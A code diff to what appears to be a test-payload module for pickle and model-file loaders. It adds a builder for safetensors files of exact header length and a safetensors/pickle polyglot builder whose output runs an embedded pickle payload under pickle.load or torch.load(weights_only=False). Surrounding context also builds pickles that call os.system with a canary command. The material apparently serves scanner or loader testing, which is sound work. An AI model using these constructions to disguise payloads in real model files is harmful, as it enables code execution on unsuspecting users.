@@ -9,6 +9,7 @@ the legacy magic-number format) is reproduced byte by byte.
 from __future__ import annotations
 
 import io
+import json
 import os
 import pickletools
 import struct
@@ -442,3 +443,41 @@ def canary_payloads(canary: str) -> dict[str, bytes]:
     out["inst protocol 0"] = b"(S" + repr(cmd).encode() + b"\nios\nsystem\n."
     out["string-fed stack_global"] = P(4).string0("os").string0("system").raw(b"\x93").mark().ustr(cmd).tuple().reduce().stop()
     return out
+
+
+def safetensors_with_length(n: int, meta: bool, pad: bool, data: bytes = b"\0\0\0\0\0\0\x80?") -> bytes:
+    """A valid safetensors file whose header is exactly ``n`` bytes: one F32 tensor of 2 values; the
+    header is stretched through a metadata value (``meta``) or the tensor's name, and ends in 1–7 spaces
+    of padding (``pad``) or directly in ``}``."""
+
+    def header(extra: int) -> bytes:
+        d: dict[str, Any] = {}
+        if meta:
+            d["__metadata__"] = {"format": "pt", "note": "x" * extra}
+        d["w" + ("" if meta else "_" * extra)] = {"dtype": "F32", "shape": [2], "data_offsets": [0, len(data)]}
+        return json.dumps(d, separators=(",", ":")).encode()
+
+    spaces = n % 7 + 1 if pad else 0
+    h = header(n - spaces - len(header(0))) + b" " * spaces
+    assert len(h) == n
+    return struct.pack("<Q", n) + h + data
+
+
+def safetensors_pickle_polyglot(payload: bytes) -> bytes:
+    """A valid safetensors file that ``pickle.load`` (and ``torch.load(weights_only=False)``, which reads a
+    non-zip file as a legacy pickle) runs: the header length is ``0x58 + 256·L``, so byte 0 is BINUNICODE
+    with the 4-byte length ``L``; the string ends inside a metadata value made of SHORT_BINBYTES hops
+    (``C`` + a printable length byte), and the last hop lands on the first tensor's data: the payload."""
+    pre = b'{"__metadata__":{"p":"'
+    tail = b'"},"a":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(payload), len(payload))
+    for L in range(len(pre) + 3, 400):  # the string must end inside the metadata value
+        n = 0x58 + 256 * L
+        land, end = 5 + L, 8 + n  # where the pickle resumes after the string; where tensor data starts
+        k = (end - land) % 128 - 2  # the last hop; every hop before it skips 126 bytes
+        if len(tail) <= k <= 126 and k not in (34, 92):  # a JSON string may not hold '"' or '\\' raw
+            break
+    hops = (end - land - k - 2) // 128
+    text = pre + b"a" * (land - 8 - len(pre)) + (b"C~" + b"a" * 126) * hops + b"C" + bytes([k])
+    text += b"b" * (k - len(tail)) + tail
+    assert len(text) == n and end == 8 + len(text)
+    return struct.pack("<Q", n) + text + payload
